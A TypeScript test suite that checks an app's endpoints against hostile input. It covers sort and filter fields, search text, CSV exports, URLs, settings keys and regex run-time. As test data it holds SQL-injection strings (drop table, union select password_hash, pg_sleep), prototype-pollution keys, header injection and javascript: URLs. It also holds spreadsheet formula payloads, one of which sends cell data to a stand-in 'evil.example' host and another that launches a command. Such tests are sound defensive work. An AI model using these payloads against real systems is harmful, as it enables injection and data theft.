import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { z } from 'zod';
import { modules } from '#app/modules.ts';
import { zodOf, type Endpoint } from '#core/contract/endpoint.ts';
import { platform } from '#core/server/platform.ts';
import { csvCell } from '#core/contract/csv.ts';
import { call, openTestHouse, type TestHouse } from '#core/testing/house.ts';
import { accountTree, setUpBook } from '#modules/accounting/contract.ts';
import * as identity from '#modules/identity/contract.ts';
import * as settings from '#modules/settings/contract.ts';
import * as workspace from '#modules/workspace/contract.ts';
import { found, join, signUp, type Place } from '../fixtures/people.ts';
import { canaries, inputSchema } from '../generated/arbitrary.ts';
import { refusedFields } from '../generated/strangers.ts';

const endpoints: Endpoint[] = [platform, ...modules].flatMap((m) => m.routes.map((r) => r.endpoint));
const lists = endpoints.filter((e) => ['filter', 'sort'].every((key) => key in (inputSchema(e).properties ?? {})));

let house: TestHouse;
let place: Place;
let accountId = '';
beforeAll(async () => {
  house = await openTestHouse();
  place = await found(house, await signUp(house, 'Ina'));
  await call(house, setUpBook, { workspace_slug: place.slug, template: 'generic' } as never, place.as(place.owner));
  accountId = (await call(house, accountTree, { workspace_slug: place.slug } as never, place.as(place.owner))).body.accounts.find((a) => !a.isGroup)!.id;
});
afterAll(() => house.close());

const pathOf = (e: Endpoint) => Object.fromEntries(e.pathKeys.map((k) => [k, k === 'workspace_slug' ? place.slug : k === 'topic' ? 'workspace.member' : randomUUID()]));

let questions = 0;

describe.each(lists.map((e) => [e.id, e] as const))('%s', (_id, e) => {
  const ask = (input: Record<string, unknown>) => call(house, e, { ...pathOf(e), ...input }, place.as(place.owner));
  /** How it answers. What a contract refuses is a 422 of one function for all calls (core/server/http/input.ts): of that only one in seven is sent, another one to each list; what it lets through always is. */
  const statusOf = async (input: Record<string, unknown>) => {
    const refused = refusedFields(e, { ...pathOf(e), ...input });
    return Object.keys(input).every((key) => refused.includes(key)) && ++questions % 7 > 0 ? 422 : (await ask(input)).status;
  };

  it('sorts, groups and filters by its own fields alone', async () => {
    const names = ['id; drop table workspace.member', 'm.id', '1', '(select 1)', '"', "'", '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'standing', 'sort_name', 'account_id', 'password_hash', 'workspace_id', 'name desc, (select pg_sleep(5))', '*'];
    for (const name of names) {
      expect([name, await statusOf({ sort: name })]).toEqual([name, 422]);
      expect([name, await statusOf({ sort: `-${name}` })]).toEqual([name, 422]);
      if ('group' in (inputSchema(e).properties ?? {})) expect([name, await statusOf({ group: name })]).toEqual([name, 422]);
      expect([name, await statusOf({ filter: JSON.stringify({ field: name, op: 'is', value: 'x' }) })]).toEqual([name, 422]);
    }
  });

  it('reads a filter as data: no operator, depth or type of its own', async () => {
    const deep = `${'{"and":['.repeat(300)}{"field":"name","op":"is","value":"x"}${']}'.repeat(300)}`;
    const wide = JSON.stringify({ or: Array.from({ length: 60 }, () => ({ field: 'name', op: 'is', value: 'x' })) });
    for (const filter of [deep.slice(0, 7999), wide, '{', 'null', '[]', '"x"', '{}', '{"and":[]}', '{"__proto__":{"field":"name"}}', '{"field":"email","op":"= \'\' or 1=1 --","value":"x"}', '{"field":"email","op":"__proto__","value":"x"}', '{"field":"email","op":"is","value":{"$ne":1}}', '{"field":"at","op":"within","value":"__proto__"}', '{"field":"at","op":"within","value":"constructor"}', '{"field":"email","op":"in","value":[["x"]]}', '{"field":"email","op":"is","value":"x","or":[]}', `{"field":"email","op":"in","value":[${'"x",'.repeat(300)}"x"]}`]) {
      expect([filter.slice(0, 60), await statusOf({ filter })]).toEqual([filter.slice(0, 60), 422]);
    }
  });

  it('searches for what was typed, wildcards and quotes included', async () => {
    // What breaks by its end or its beginning stands alone; what breaks by being there stands together.
    for (const q of [canaries.filter((c) => !/[\r\n]/.test(c)).join(' ').slice(0, 190), "x' union select password_hash from identity.account -- $1", '%', '_', '\\', '\\%', '%%%%%%%%%%%%%%%%%%%%%%%%', "' or '1'='1", '', '😀'.repeat(40)]) {
      const known = inputSchema(e).properties ?? {};
      const { status, body } = await ask({ q, ...('accountId' in known && !e.pathKeys.includes('accountId') ? { accountId } : {}), ...('limit' in known ? { limit: 5 } : {}), ...('format' in known ? { format: 'json' } : {}) });
      // What lies below a record that is not there is not there.
      if (e.pathKeys.some((key) => key === 'id' || key.endsWith('Id')) && status === 404) continue;
      expect([q, status === 200 || status === 201], JSON.stringify([status, body])).toEqual([q, true]);
      expect(Buffer.isBuffer(body) ? body.toString() : JSON.stringify(body)).not.toContain('$argon2');
    }
  });
});

describe('texts', () => {
  it('come back as they were typed, wherever they are kept', async () => {
    const person = await signUp(house, 'Canary');
    for (const canary of canaries) {
      const plain = canary.replace(/[\r\n]+/g, ' ');
      // Marks that turn the text around them are refused in names, as control characters are; texts keep them.
      const name = plain.replaceAll('\u202E', '');
      const answer = await call(house, identity.updateProfile, { firstName: name, about: canary.replaceAll('\r', '') }, { token: person.token });
      expect([canary, answer.status, answer.body.firstName, answer.body.about]).toEqual([canary, 200, name.trim(), canary.replaceAll('\r', '')]);
      expect(answer.headers['content-type']).toBe('application/json; charset=utf-8');
    }
    expect((await call(house, identity.updateProfile, { firstName: 'a\r\nSet-Cookie: x=1' }, { token: person.token })).status).toBe(422);
    for (const bad of ['a\u202eb', 'a\u0000b', 'a\u001bb', 'a\u007fb']) expect((await call(house, identity.updateProfile, { firstName: bad }, { token: person.token })).status).toBe(422);
  });

  it('that a spreadsheet would take for formulas are disarmed in every CSV', async () => {
    for (const text of ['=1+1', '+1', '-1+2', '@SUM(A1)', '\t=1', '\r=1', '=cmd|\' /C calc\'!A0', '-2+3+cmd|x', '=HYPERLINK("http://evil.example?x="&A1)']) {
      expect([text, csvCell(text).replace(/^"/, '')[0]]).toEqual([text, "'"]);
    }
    const owner = await signUp(house, '=2+5');
    const evil = await found(house, owner, '@evil');
    await join(house, evil, await signUp(house, '+31 cmd|calc'), 'member');
    for (const e of [workspace.exportMembers, workspace.exportAudit]) {
      const answer = await call(house, e, { workspace_slug: evil.slug }, evil.as(owner));
      const lines = (answer.body as Buffer).toString().split('\r\n').slice(1);
      expect(lines.length).toBeGreaterThan(1);
      for (const cell of lines.flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)/g) ?? [])) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t]/);
      expect(answer.headers['content-disposition']).toMatch(/^attachment; filename="[\w.-]+"$/);
      expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
    }
  });

  it('never name a page outside: links of notifications and brand addresses are checked where they enter', async () => {
    const { version } = (await call(house, settings.getSettings, { workspace_slug: place.slug }, place.as(place.owner))).body.company;
    for (const website of ['javascript:alert(1)', 'data:text/html,x', 'vbscript:x', ' java\tscript:alert(1)', '//evil.example', 'https:evil', 'ftp://x.test', 'https://x\n.test']) {
      expect([website, (await call(house, settings.updateCompany, { workspace_slug: place.slug, values: { website }, version }, place.as(place.owner))).status]).toEqual([website, 422]);
    }
  });

  it('that are keys of objects everywhere are no settings', async () => {
    for (const key of ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf']) {
      expect([key, (await call(house, settings.resetSetting, { workspace_slug: place.slug, group: 'brand', key, version: '1' }, place.as(place.owner))).status]).toEqual([key, 422]);
      expect([key, (await call(house, settings.updateSettings, { workspace_slug: place.slug, group: 'brand', values: { [key]: 'x' }, version: 1 }, place.as(place.owner))).status >= 400]).toEqual([key, true]);
    }
  });
});

/** The schema of one field, where nothing is said of the whole that a text in this field could reach. */
function partOf(whole: z.ZodType, key: string): z.ZodType | null {
  const { type, checks } = whole.def as { type: string; checks?: unknown[] };
  return type === 'object' && !checks?.length ? (whole as z.ZodObject).shape[key] as z.ZodType ?? null : null;
}

describe('schemas', () => {
  it('answer hostile texts at once: no expression runs away', () => {
    const long = [...['a', ' ', '-', '0', '.', '@', '(', '\t', '/', '1 ', 'a.', 'a@', '+1', 'é', '😀', '\\'].map((c) => c.repeat(Math.floor(30_000 / c.length))), `${'a'.repeat(20_000)}@`, `${'a.'.repeat(10_000)}!`, `https://${'a.'.repeat(10_000)}`, `${'0'.repeat(20_000)}x`, `+${'1'.repeat(20_000)}!`];
    const asked = new Set<z.ZodType>();
    for (const e of endpoints) {
      const schema = inputSchema(e);
      for (const key of Object.keys(schema.properties ?? {})) {
        // A field that is one and the same in many calls is asked once.
        const field = partOf(zodOf(e.input), key);
        if (field && asked.has(field)) continue;
        if (field) asked.add(field);
        const [reader, wrap] = field ? [field, (text: string): unknown => text] as const : [zodOf(e.input), (text: string): unknown => ({ [key]: text })] as const;
        for (const text of long) {
          // By the processor's time: by the clock a busy machine is slow in everything.
          const once = () => { const begun = process.cpuUsage(); reader.safeParse(wrap(text)); const { user, system } = process.cpuUsage(begun); return (user + system) / 1000; };
          let took = once();
          // A busy machine is slow now and then, a runaway expression every time.
          for (let i = 0; i < 3 && took > 250; i++) took = once();
          if (took > 250) expect([e.id, key, text.slice(0, 5), Math.round(took)]).toEqual([e.id, key, text.slice(0, 5), 'too long']);
        }
      }
    }
  });
});
